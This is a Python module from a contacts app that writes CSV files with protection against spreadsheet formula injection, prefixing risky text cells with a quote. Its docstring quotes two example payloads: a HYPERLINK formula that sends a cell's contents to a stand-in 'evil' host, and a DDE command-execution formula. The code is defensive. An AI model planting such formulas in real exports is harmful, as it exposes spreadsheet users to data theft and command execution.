"""Writing CSV files a spreadsheet cannot turn against their reader.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula, so a contact named
``=HYPERLINK("http://evil/?"&A1,"Click")`` or ``=cmd|' /C calc'!A0`` would act when the
export is opened. Every CSV the app writes goes through :func:`csv_writer`, which
writes each text cell through :func:`~.contact_csv.neutralise_cell` (OWASP's advice:
prefix a ``'``); ``contacts import`` reads it back through
:func:`~.contact_csv.restore_cell`, so an export imports back to the same values and
exports again byte for byte (docs/security.md, "CSV files").

Numbers written as numbers (int, Decimal) are left alone: ``-5.00`` is no formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

from segment_tui.services.contact_csv import FORMULA_TRIGGERS, neutralise_cell

_CHECK_FIRST = frozenset(FORMULA_TRIGGERS + "'")
"""First characters of a text cell that need :func:`neutralise_cell` (most need not)."""


def csv_cell(value: Any) -> Any:
    """One value as a CSV cell: blank for None, Yes/No for booleans, numbers as they
    are, text neutralised (see the module)."""
    if type(value) is str:
        return neutralise_cell(value) if value and value[0] in _CHECK_FIRST else value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int | float | Decimal):
        return value
    return neutralise_cell(str(value))


class CsvWriter:
    """:func:`csv.writer` whose every cell goes through :func:`csv_cell`."""

    def __init__(self, out: IO[str], **formatting: Any) -> None:
        self._writer = csv.writer(out, **formatting)

    def writerow(self, values: Iterable[Any]) -> None:
        """Write one row."""
        check = _CHECK_FIRST
        self._writer.writerow(
            [
                # Plain text that cannot start a formula is written as it is (most cells).
                v if type(v) is str and (not v or v[0] not in check) else csv_cell(v)
                for v in values
            ]
        )

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write several rows."""
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **formatting: Any) -> CsvWriter:
    """The CSV writer every CSV file of the app is written with (``formatting`` as for
    :func:`csv.writer`, e.g. ``delimiter=";"``)."""
    return CsvWriter(out, **formatting)
